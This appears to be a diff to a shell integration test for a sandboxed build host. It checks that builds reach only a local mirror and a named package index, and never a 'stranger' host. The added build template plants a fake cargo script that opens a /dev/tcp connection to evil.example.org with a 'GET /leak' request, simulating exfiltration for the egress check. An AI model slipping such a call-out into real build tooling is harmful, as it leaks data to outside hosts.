@@ -26,7 +26,7 @@ ip -n $net route add 11.209.0.1/32 dev eth0
 ip -n $net route add default via 11.209.0.1 dev eth0
 ip route add default dev inet
 ip netns exec $net dnsmasq -C /dev/null --no-resolv --no-hosts --no-daemon --log-queries --pid-file --listen-address=$dns --bind-interfaces \
-        --address=/mirror.example.org/$mirror --address=/inner.example.org/$private --address=/evil.example.org/$stranger >$work/dnsmasq 2>&1 &
+        --address=/mirror.example.org/$mirror --address=/inner.example.org/$private --address=/evil.example.org/$stranger --address=/index.example.org/$mirror >$work/dnsmasq 2>&1 &
 cat >$work/mirror.py <<'PYTHON'
 import http.server, sys
 class Handler(http.server.SimpleHTTPRequestHandler):
@@ -60,7 +60,15 @@ sources() { # URL: apt's only one
 }
 mkdir -p /etc/hostd/templates.d
 printf 'allow_degraded = [ "apparmor", "disk", "inodes", "seccomp" ];\n' >/etc/hostd/hostd.conf
-printf 'name = "small";\nsuite = "trixie";\nvariant = "essential";\npackages = ["systemd-sysv"];\n' >/etc/hostd/templates.d/small.conf
+# With a client that names an index, which says where it has its downloads, to whoever reaches it.
+cat >/etc/hostd/templates.d/small.conf <<'RECIPE'
+name = "small";
+suite = "trixie";
+variant = "essential";
+packages = ["systemd-sysv"];
+users = ( { name = "agent"; uid = 1000; } );
+files = ( { path = "/usr/bin/cargo"; mode = "0755"; content = "#!/bin/bash\nif exec 3<>/dev/tcp/index.example.org/80 && printf 'GET /dists/trixie/InRelease HTTP/1.1\\r\\nHost: index.example.org\\r\\n\\r\\n' >&3 && read -r line <&3 && [[ $line == *200* ]]; then\nmkdir -p $CARGO_HOME/registry/index/x && echo '{\"dl\": \"http://dl.example.org/crates\"}' >$CARGO_HOME/registry/index/x/config.json\nelse\necho 'failed to fetch `http://index.example.org/config.json`' >&2\nfi\nexec 4<>/dev/tcp/evil.example.org/80 && printf 'GET /leak HTTP/1.1\\r\\nHost: evil.example.org\\r\\n\\r\\n' >&4 && read -r line <&4\nexit 0\n"; } );
+RECIPE
 start() {
         mkdir -p /run/hostd
         setsid hostd >>$work/hostd.log 2>&1 </dev/null &
@@ -111,6 +119,8 @@ refute "the mirror at another port" inside curl -s -f -m 3 -o /dev/null http://m
 refute "the host" inside curl -s -m 3 -o /dev/null telnet://11.209.0.1:22
 refute "a name server of its choice" inside sh -c "timeout 3 busybox nslookup evil.example.org $dns | grep -q $stranger"
 wait $building && ok "built in $((SECONDS - begin)) s by name" || fail "build: $(tail -n 3 $work/built)"
+check "the index that a client named was asked" grep -q 'index.example.org /dists' $work/at-mirror
+check "and said where it has its downloads" sh -c "grep -l '\"name\": *\"small\"' /var/lib/hostd/templates/*.json | xargs grep -q dl.example.org:80"
 check "the packages came from the mirror" grep -q 'pool/.*deb' $work/at-mirror
 check "nothing came to the stranger" test ! -s $work/at-stranger
 check "its flows: the name" wait_for 10 has_flow '.kind == "dns" and .verdict == "allow" and .name == "mirror.example.org"'
